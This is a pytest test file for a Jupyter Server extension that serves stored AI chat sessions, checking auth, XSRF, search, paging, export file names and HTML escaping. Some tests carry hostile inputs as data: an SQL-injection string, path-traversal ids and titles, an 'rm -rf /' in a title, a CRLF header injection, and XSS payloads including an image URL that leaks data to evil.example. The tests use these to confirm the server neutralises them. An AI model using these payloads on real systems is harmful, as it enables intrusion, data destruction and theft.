"""The jupychat Jupyter Server extension: REST API, auth, bad input, against a real server.

A real ``python -m jupyter_server`` runs on 127.0.0.1 with a token and temporary dirs;
the extension loads from the installed config file (no ``jpserver_extensions`` flag).
Sessions are written into its store with ``SessionStore`` from this process, as a
kernel would, while the server reads them.
"""

from __future__ import annotations

import json
import os
import re
import sqlite3
import sys
import time
import urllib.parse
import uuid
from pathlib import Path

import nbformat
import pytest

pytest.importorskip("jupyter_server")

import jupychat
from jupychat.server.handlers import export_filename
from jupychat.store import SessionStore
from jupychat_server_helpers import make_session, run_jupyter, text_message

REPO = Path(__file__).resolve().parents[1]
CONFIG_NAME = "jupyter_server_config.d/jupychat.json"


@pytest.fixture(scope="module")
def server(tmp_path_factory):
    with run_jupyter(tmp_path_factory.mktemp("jupyter")) as srv:
        yield srv


@pytest.fixture(scope="module")
def store(server):
    with SessionStore(server.store_path) as st:
        yield st


@pytest.fixture(scope="module")
def http(server):
    with server.client() as client:
        yield client


@pytest.fixture
def notebook():
    """A notebook path unique to the test, to filter the shared store by."""
    return f"work/{uuid.uuid4().hex[:8]}.ipynb"


def _message(response) -> str:
    body = response.json()
    assert set(body) >= {"message"}, body
    assert "Traceback" not in body["message"]
    return body["message"]


# -- installation ------------------------------------------------------------------------


def test_extension_is_enabled_by_the_installed_config(server):
    installed = Path(sys.prefix) / "etc" / "jupyter" / CONFIG_NAME
    shipped = REPO / "jupyter-config" / CONFIG_NAME
    assert json.loads(shipped.read_text()) == {
        "ServerApp": {"jpserver_extensions": {"jupychat": True}}
    }
    assert installed.exists(), f"{installed} missing: run pip install -e . again"
    assert json.loads(installed.read_text()) == json.loads(shipped.read_text())
    # The server under test was not told about jupychat on its command line ...
    assert not any("jpserver_extensions" in arg for arg in server.argv)
    # ... and loaded it anyway, from the installed config.
    assert "jupychat | extension was successfully loaded" in server.log.read_text()
    # What `jupyter server extension list` reports for the sys-prefix config dir.
    from jupyter_server.extension.config import ExtensionConfigManager
    from jupyter_server.extension.manager import ExtensionPackage

    prefix_dir = str(Path(sys.prefix) / "etc" / "jupyter")
    enabled = ExtensionConfigManager(read_config_path=[prefix_dir]).get_jpserver_extensions()
    assert enabled.get("jupychat") is True
    package = ExtensionPackage(name="jupychat", enabled=True)
    assert package.validate() and package.version == jupychat.__version__
    assert [p.module.__name__ for p in package.extension_points.values()] == ["jupychat.server"]


def test_help_menu_link_ships_as_a_lab_extension():
    """Help → Chat Sessions comes from the shipped extension's schema (``jupyter.lab.menus``),
    not from a settings override: an override of the main menu's ``menus`` is merged twice
    by JupyterLab ("Menu entry for command 'help:open' is duplicated")."""
    shipped = REPO / "jupyter-config" / "labextensions" / "jupychat"
    package = json.loads((shipped / "package.json").read_text())
    build = package["jupyterlab"]["_build"]
    assert (shipped / build["load"]).is_file() and build["extension"] == "./extension"
    schema = json.loads((shipped / "schemas" / "jupychat" / "plugin.json").read_text())
    (menu,) = schema["jupyter.lab.menus"]["main"]
    assert menu["id"] == "jp-mainmenu-help"
    links = [item["args"] for item in menu["items"] if item.get("command") == "help:open"]
    assert links == [{"url": "/jupychat/", "text": "Chat Sessions", "newBrowserTab": True}]
    assert "Help → Chat Sessions" in (REPO / "README.md").read_text()
    # the plugin id the schema belongs to is the one the extension registers
    assert '"jupychat:plugin"' in (shipped / build["load"]).read_text()
    assert not (REPO / "jupyter-config" / "lab-settings").exists()
    pyproject = (REPO / "pyproject.toml").read_text()
    assert (
        '"jupyter-config/labextensions/jupychat" = "share/jupyter/labextensions/jupychat"'
        in pyproject
    )
    installed = Path(sys.prefix, "share", "jupyter", "labextensions", "jupychat")
    if installed.exists():  # after pip install -e . (or a wheel) of this version
        assert json.loads((installed / "package.json").read_text()) == package


# -- authentication and authorization --------------------------------------------------


def test_requests_without_a_valid_token_get_403_and_change_nothing(server, store, http, notebook):
    sid = make_session(store, [("keep me", "kept")], notebook=notebook, title="Protected")
    export = server.api(f"sessions/{sid}/export?format=json")
    for headers in ({}, {"Authorization": "token wrong-token"}):
        with server.client(headers=headers) as anon:
            calls = [
                anon.get(server.api("sessions")),
                anon.get(server.api(f"sessions/{sid}")),
                anon.get(export),
                anon.patch(server.api(f"sessions/{sid}"), json={"title": "hacked"}),
                anon.delete(server.api(f"sessions/{sid}")),
            ]
            for response in calls:
                assert response.status_code == 403, (response.request.url, response.text)
                assert "Protected" not in response.text and "keep me" not in response.text
            assert "forbidden" in _message(calls[0])
            for page_url in (
                "/jupychat/",
                f"/jupychat/sessions/{sid}",
                "/jupychat/static/jupychat.js",
            ):
                page = anon.get(server.url + page_url)
                assert page.status_code == 302, page_url  # pages send people to log in
                assert "/login?next=" in page.headers["location"]
    assert store.summary(sid)["title"] == "Protected"
    assert (
        http.get(server.api(f"sessions/{sid}")).json()["messages"][0]["content"][0]["text"]
        == "keep me"
    )


def test_cookie_session_needs_the_xsrf_token_to_change_anything(server, store, notebook):
    sid = make_session(store, [("cookie", "jar")], notebook=notebook, title="Cookie")
    with server.client(headers={}) as browser:
        page = browser.get(f"{server.url}/jupychat/?token={server.token}")
        assert page.status_code == 200
        assert browser.get(server.api(f"sessions/{sid}")).status_code == 200  # cookie works
        refused = browser.delete(server.api(f"sessions/{sid}"))
        assert refused.status_code == 403
        assert store.exists(sid)
        xsrf = re.search(r'name="jupychat-xsrf" content="([^"]+)"', page.text).group(1)
        renamed = browser.patch(
            server.api(f"sessions/{sid}"),
            json={"title": "Via cookie"},
            headers={"X-XSRFToken": xsrf},
        )
        assert renamed.status_code == 200, renamed.text
        assert (
            browser.delete(server.api(f"sessions/{sid}"), headers={"X-XSRFToken": xsrf}).status_code
            == 204
        )
    assert not store.exists(sid)


# -- listing and search ----------------------------------------------------------------


def test_list_pages_through_sessions_newest_first(server, store, http, notebook):
    ids = [
        make_session(store, [(f"question {i}", f"answer {i}")], notebook=notebook, usage=(i, 2 * i))
        for i in range(5)
    ]
    first = http.get(server.api("sessions"), params={"notebook": notebook, "limit": 2}).json()
    assert [s["id"] for s in first["sessions"]] == ids[::-1][:2]
    assert first["next_offset"] == 2 and first["limit"] == 2 and first["offset"] == 0
    rest = http.get(
        server.api("sessions"), params={"notebook": notebook, "limit": 2, "offset": 4}
    ).json()
    assert [s["id"] for s in rest["sessions"]] == [ids[0]]
    assert rest["next_offset"] is None
    newest = first["sessions"][0]
    assert newest["title"] == "question 4" and newest["notebook"] == notebook
    assert (newest["input_tokens"], newest["output_tokens"], newest["message_count"]) == (4, 8, 2)
    assert newest["model"] == "fake:echo" and newest["updated_at"]


def test_full_text_search_and_metadata_filters(server, store, http, notebook):
    hist = make_session(
        store,
        [("How do I draw a histogram of prices?", "Use df.prices.plot.hist().")],
        notebook=notebook,
        metadata={"project": "alpha", "n": 3},
    )
    make_session(
        store,
        [("Fit a regression", "Use statsmodels OLS.")],
        notebook=notebook,
        metadata={"project": "beta", "n": "3"},
    )
    found = http.get(server.api("sessions"), params={"q": "histogram", "notebook": notebook})
    sessions = found.json()["sessions"]
    assert [s["id"] for s in sessions] == [hist]
    assert "**histogram**" in sessions[0]["snippet"]
    assert (
        http.get(
            server.api("sessions"), params={"q": "zebra-unicorn", "notebook": notebook}
        ).json()["sessions"]
        == []
    )

    def by_meta(**params):
        response = http.get(server.api("sessions"), params={"notebook": notebook, **params})
        assert response.status_code == 200, response.text
        return [s["metadata"]["project"] for s in response.json()["sessions"]]

    assert by_meta(**{"meta.project": "alpha"}) == ["alpha"]
    assert by_meta(**{"meta.n": "3"}) == ["alpha"]  # JSON number 3
    assert by_meta(**{"meta.n": '"3"'}) == ["beta"]  # the string "3"
    assert by_meta(**{"meta.project": "gamma"}) == []
    assert by_meta(q="statsmodels", **{"meta.project": "beta"}) == ["beta"]
    bad = http.get(server.api("sessions"), params={"meta.": "x"})
    assert bad.status_code == 400 and "meta.KEY" in _message(bad)


def test_odd_search_text_is_never_a_server_error(server, store, http):
    make_session(store, [("odd search target", "fine")])
    for query in [
        '"',
        '""',
        "*",
        "NEAR(a b)",
        "a:b",
        "-x",
        "^start",
        "AND OR NOT",
        "(",
        "📈",
        "x" * 1000,
        "col:*",
        "'; DROP TABLE sessions; --",
    ]:
        for url in (server.api("sessions"), f"{server.url}/jupychat/"):
            response = http.get(url, params={"q": query})
            assert response.status_code == 200, (query, response.text[:300])
    too_long = http.get(server.api("sessions"), params={"q": "x" * 1001})
    assert too_long.status_code == 400 and "longer than" in _message(too_long)
    assert http.get(server.api("sessions"), params={"q": "odd"}).json()["sessions"]


# -- one session -------------------------------------------------------------------------


def test_get_session_pages_the_messages_of_a_huge_session(server, store, http, notebook):
    turns = [(f"prompt {i}", f"reply {i}") for i in range(300)]  # 600 messages
    sid = make_session(store, turns, notebook=notebook, system_prompt="Be brief.")
    first = http.get(server.api(f"sessions/{sid}")).json()
    assert len(first["messages"]) == 200
    assert first["paging"] == {"offset": 0, "limit": 200, "total": 600, "next_offset": 200}
    assert first["system_prompt"] == "Be brief." and first["notebook"] == notebook
    assert first["messages"][0]["id"].startswith("msg_")
    assert first["input_tokens"] == 300 * 10
    tail = http.get(server.api(f"sessions/{sid}"), params={"offset": 550, "limit": 100}).json()
    assert [m["content"][0]["text"] for m in tail["messages"][-2:]] == ["prompt 299", "reply 299"]
    assert len(tail["messages"]) == 50 and tail["paging"]["next_offset"] is None
    beyond = http.get(server.api(f"sessions/{sid}"), params={"offset": 5000}).json()
    assert beyond["messages"] == [] and beyond["paging"]["total"] == 600


@pytest.mark.parametrize(
    ("params", "name"),
    [
        ({"limit": "abc"}, "limit"),
        ({"limit": "-1"}, "limit"),
        ({"limit": "0"}, "limit"),
        ({"limit": "1.5"}, "limit"),
        ({"limit": "99999999"}, "limit"),
        ({"offset": "-5"}, "offset"),
        ({"offset": "x"}, "offset"),
        ({"offset": "1e3"}, "offset"),
    ],
)
def test_malformed_paging_values_are_a_400(server, store, http, params, name):
    sid = make_session(store, [("p", "r")])
    for url in (
        server.api("sessions"),
        server.api(f"sessions/{sid}"),
        f"{server.url}/jupychat/sessions/{sid}",
    ):
        response = http.get(url, params=params)
        assert response.status_code == 400, (url, response.text)
        if "/api/" in url:
            assert response.headers["content-type"].startswith("application/json")
            message = _message(response)
            assert message.startswith(f"{name} must be a whole number"), message
        else:
            assert "whole number" in response.text and "Traceback" not in response.text


@pytest.mark.parametrize(
    "session_id",
    ["nope", "..%2F..%2Fetc%2Fpasswd", "%2E%2E", "a" * 300, "x%00y", "%E2%9C%93"],
)
def test_unknown_or_malformed_ids_are_a_404(server, http, session_id):
    for method, path, body in [
        ("GET", f"sessions/{session_id}", None),
        ("PATCH", f"sessions/{session_id}", {"title": "x"}),
        ("DELETE", f"sessions/{session_id}", None),
        ("GET", f"sessions/{session_id}/export?format=json", None),
    ]:
        response = http.request(method, server.api(path), json=body)
        assert response.status_code == 404, (method, path, response.text)
        assert _message(response).startswith("no session")
    page = http.get(f"{server.url}/jupychat/sessions/{session_id}")
    assert page.status_code == 404 and "no session" in page.text


def test_rename_and_bad_rename_bodies(server, store, http, notebook):
    sid = make_session(store, [("the first prompt", "reply")], notebook=notebook)
    url = server.api(f"sessions/{sid}")
    renamed = http.patch(url, json={"title": "  Quarterly   numbers "})
    assert renamed.status_code == 200
    assert renamed.json()["title"] == "Quarterly numbers" == store.summary(sid)["title"]
    for body in (
        '{"title": 5}',
        "[1]",
        "not json",
        '{"name": "x"}',
        '{"title": "ok", "extra": 1}',
        json.dumps({"title": "x" * 301}),
        "",
    ):
        response = http.patch(url, content=body)
        assert response.status_code == 400, (body, response.text)
        assert _message(response)
    assert store.summary(sid)["title"] == "Quarterly numbers"
    automatic = http.patch(url, json={"title": None})
    assert automatic.json()["title"] == "the first prompt"


def test_delete_removes_only_that_session(server, store, http, notebook):
    gone = make_session(store, [("delete me", "ok")], notebook=notebook)
    kept = make_session(store, [("keep me", "ok")], notebook=notebook)
    response = http.delete(server.api(f"sessions/{gone}"))
    assert response.status_code == 204 and response.content == b""
    assert not store.exists(gone) and store.exists(kept)
    assert http.get(server.api(f"sessions/{gone}")).status_code == 404
    again = http.delete(server.api(f"sessions/{gone}"))
    assert again.status_code == 404 and gone in _message(again)
    listed = http.get(server.api("sessions"), params={"notebook": notebook}).json()
    assert [s["id"] for s in listed["sessions"]] == [kept]


# -- export ------------------------------------------------------------------------------


def _download_names(response) -> tuple[str, str]:
    disposition = response.headers["content-disposition"]
    plain = re.search(r'filename="([^"]*)"', disposition).group(1)
    encoded = re.search(r"filename\*=UTF-8''(\S+)", disposition).group(1)
    return plain, urllib.parse.unquote(encoded)


def test_export_each_format_as_a_download(server, store, http, notebook):
    sid = make_session(
        store,
        [("Plot the data", "Here:\n\n```python\nimport math\nprint(math.pi)\n```")],
        notebook=notebook,
        title="Plotting help",
    )
    url = server.api(f"sessions/{sid}/export")
    as_json = http.get(url, params={"format": "json"})
    assert as_json.status_code == 200
    assert as_json.headers["content-type"].startswith("application/json")
    assert _download_names(as_json) == ("Plotting-help.json", "Plotting-help.json")
    record = as_json.json()
    assert record["schema"] == "jupychat.session" and record["id"] == sid
    assert len(record["messages"]) == 2

    as_md = http.get(url, params={"format": "markdown"})
    assert as_md.headers["content-type"].startswith("text/markdown")
    assert _download_names(as_md)[0] == "Plotting-help.md"
    assert as_md.text.startswith("# Plotting help") and "print(math.pi)" in as_md.text

    as_nb = http.get(url, params={"format": "ipynb"})
    assert _download_names(as_nb)[0] == "Plotting-help.ipynb"
    nb = nbformat.reads(as_nb.text, as_version=4)
    nbformat.validate(nb)
    assert any(c.cell_type == "code" and "math.pi" in c.source for c in nb.cells)

    bad = http.get(url, params={"format": "exe"})
    assert bad.status_code == 400 and "json, markdown or ipynb" in _message(bad)


@pytest.mark.parametrize(
    ("title", "plain", "unicode"),
    [
        ("../../etc/passwd", "etc-passwd.md", "etc-passwd.md"),
        ('..\\..\\win.ini"; rm -rf /', "win.ini-rm-rf.md", "win.ini-rm-rf.md"),
        ("Résumé – Übersicht 📈", "Resume-Ubersicht.md", "Résumé-Übersicht.md"),
        ("...", "jupychat-SID.md", "jupychat-SID.md"),
        ("\x00\r\nSet-Cookie: a=b", "Set-Cookie-a-b.md", "Set-Cookie-a-b.md"),
    ],
)
def test_export_file_names_cannot_escape_the_download_folder(
    server, store, http, title, plain, unicode
):
    sid = make_session(store, [("hello", "world")], title=title)
    response = http.get(server.api(f"sessions/{sid}/export"), params={"format": "md"})
    assert response.status_code == 200
    expected = (plain.replace("SID", sid[:12]), unicode.replace("SID", sid[:12]))
    assert _download_names(response) == expected
    for name in expected:
        assert "/" not in name and "\\" not in name and not name.startswith(".")
        assert ".." not in name and '"' not in name


def test_export_filename_function_bounds_length_and_charset():
    plain, uni = export_filename("x" * 500 + "/../" + "y", "abc", "json")
    assert plain == uni == "x" * 80 + ".json"
    assert export_filename(None, "../../id", "md") == ("jupychat-id.md", "jupychat-id.md")
    assert export_filename("日本語のタイトル", "s1", "ipynb") == (
        "jupychat-s1.ipynb",
        "日本語のタイトル.ipynb",
    )


# -- what the API and the page show -------------------------------------------------------


def test_api_and_page_output_are_scrubbed_of_keys(server, store, http):
    leaked = "sk-" + "A1b2C3d4E5f6G7h8I9j0K1l2"
    sid = make_session(
        store,
        [(f"my key is {leaked}", "please do not share keys")],
        metadata={"api_key": "hunter2-secret"},
    )
    body = http.get(server.api(f"sessions/{sid}")).text
    page = http.get(f"{server.url}/jupychat/sessions/{sid}").text
    listing = http.get(server.api("sessions"), params={"q": "share"}).text
    for text in (body, page, listing):
        assert leaked not in text and "hunter2-secret" not in text
    assert "[redacted]" in body


def test_transcript_page_escapes_model_output(server, store, http):
    evil = (
        "<script>alert('x')</script>\n\n<img src=x onerror=alert(1)>\n\n"
        "[click](javascript:alert(1)) and ![pixel](http://evil.example/leak.png?d=secret)\n\n"
        "**bold** and `code`\n\n```python\nprint('<b>hi</b>')\n```"
    )
    sid = make_session(store, [("Show <b>markup</b>", evil)], title="<i>XSS</i> test")
    response = http.get(f"{server.url}/jupychat/sessions/{sid}")
    assert response.status_code == 200
    html = response.text
    assert "<script>alert" not in html and "<img src=x" not in html
    assert "&lt;script&gt;alert" in html and "&lt;img src=x onerror=alert(1)&gt;" in html
    assert "javascript:" not in html
    assert 'src="http://evil.example' not in html  # images become links, never fetched
    assert "<strong>bold</strong>" in html and '<code class="language-python">' in html
    assert (
        "print(&#x27;&lt;b&gt;hi&lt;/b&gt;&#x27;)" in html
        or "print('&lt;b&gt;hi&lt;/b&gt;')" in html
    )
    assert "<i>XSS</i>" not in html and "&lt;i&gt;XSS&lt;/i&gt; test" in html
    assert "Show &lt;b&gt;markup&lt;/b&gt;" in html
    csp = response.headers["content-security-policy"]
    assert "script-src 'self'" in csp and "default-src 'none'" in csp


def test_list_page_and_assets(server, store, http, notebook):
    sid = make_session(
        store,
        [("page listing check", "ok")],
        notebook=notebook,
        title="Listed <b>session</b>",
        usage=(1000, 234),
    )
    page = http.get(f"{server.url}/jupychat/", params={"notebook": notebook})
    assert page.status_code == 200 and page.headers["content-type"].startswith("text/html")
    assert f"/jupychat/sessions/{sid}" in page.text
    assert "Listed &lt;b&gt;session&lt;/b&gt;" in page.text and "1,234" in page.text
    found = http.get(f"{server.url}/jupychat/", params={"q": "listing"})
    assert "<mark>listing</mark>" in found.text
    redirect = http.get(f"{server.url}/jupychat")
    assert redirect.status_code == 302 and redirect.headers["location"].endswith("/jupychat/")
    js = http.get(f"{server.url}/jupychat/static/jupychat.js")
    assert js.status_code == 200 and "X-XSRFToken" in js.text
    assert http.get(f"{server.url}/jupychat/static/jupychat.css").status_code == 200
    for name in ("secret.py", "..%2F__init__.py", "handlers.py"):
        assert http.get(f"{server.url}/jupychat/static/{name}").status_code == 404


def test_reads_do_not_wait_for_a_kernel_holding_the_write_lock(server, store, http):
    sid = make_session(store, [("concurrent", "reads")])
    writer = sqlite3.connect(str(server.store_path), timeout=1, isolation_level=None)
    try:
        writer.execute("BEGIN IMMEDIATE")  # what a kernel does while it saves a turn
        writer.execute("UPDATE sessions SET title = 'in flight' WHERE id = ?", (sid,))
        started = time.monotonic()
        response = http.get(server.api(f"sessions/{sid}"))
        listing = http.get(server.api("sessions"), params={"q": "concurrent"})
        elapsed = time.monotonic() - started
        assert response.status_code == 200 and listing.status_code == 200
        assert response.json()["title"] == "concurrent"  # the committed state
        assert elapsed < 2.0, f"reads waited {elapsed:.1f}s for the writer"
    finally:
        writer.execute("ROLLBACK")
        writer.close()


# -- a server whose authorizer only lets users read ---------------------------------------

AUTHORIZER = '''
from jupyter_server.auth import Authorizer


class ReadOnlyChats(Authorizer):
    """Lets everyone read jupychat sessions and nobody change them."""

    def is_authorized(self, handler, user, action, resource):
        return resource != "jupychat" or action == "read"
'''


@pytest.fixture(scope="module")
def read_only_server(tmp_path_factory):
    base = tmp_path_factory.mktemp("readonly")
    (base / "authz").mkdir()
    (base / "authz" / "jupychat_test_authz.py").write_text(AUTHORIZER)
    with run_jupyter(
        base,
        extra_args=["--ServerApp.authorizer_class=jupychat_test_authz.ReadOnlyChats"],
        # keep the caller's PYTHONPATH: the server must import the jupychat under test
        env={
            "PYTHONPATH": os.pathsep.join(
                filter(None, [str(base / "authz"), os.environ.get("PYTHONPATH")])
            )
        },
        store_path=base / "fresh" / "sessions.db",
        base_url="/user/alice/",
    ) as srv:
        yield srv


def test_listing_does_not_create_a_missing_store(read_only_server):
    srv = read_only_server
    with srv.client() as http:
        assert http.get(srv.api("sessions")).json()["sessions"] == []
        assert http.get(srv.api("sessions"), params={"q": "x"}).json()["sessions"] == []
        assert http.get(srv.api("sessions/abc")).status_code == 404
        page = http.get(f"{srv.url}/jupychat/")
        assert page.status_code == 200 and "No chat sessions yet" in page.text
        # every link honours the server's base_url
        assert 'href="/user/alice/jupychat/static/jupychat.css"' in page.text
        assert 'content="/user/alice/jupychat/api/"' in page.text
        assert 'href="/user/alice/lab"' in page.text
        redirect = http.get(f"{srv.url}/jupychat")
        assert redirect.headers["location"] == "/user/alice/jupychat/"
    assert not srv.store_path.exists() and not srv.store_path.parent.exists()


def test_authorizer_decides_with_the_jupychat_resource(read_only_server):
    srv = read_only_server
    with SessionStore(srv.store_path) as st:
        sid = make_session(st, [("read only", "yes")], title="Read only")
        with srv.client() as http:
            assert http.get(srv.api(f"sessions/{sid}")).status_code == 200
            transcript = http.get(f"{srv.url}/jupychat/sessions/{sid}").text
            export_link = f'href="/user/alice/jupychat/api/sessions/{sid}/export?format=json"'
            assert export_link in transcript
            assert http.get(srv.api(f"sessions/{sid}/export?format=json")).status_code == 200
            denied = [
                http.delete(srv.api(f"sessions/{sid}")),
                http.patch(srv.api(f"sessions/{sid}"), json={"title": "changed"}),
            ]
            for response in denied:
                assert response.status_code == 403
                assert "not authorized to write on resource: jupychat" in _message(response)
        assert st.summary(sid)["title"] == "Read only"
        st.append_messages(sid, [text_message("user", "still writable by kernels")])
        assert st.summary(sid)["message_count"] == 3
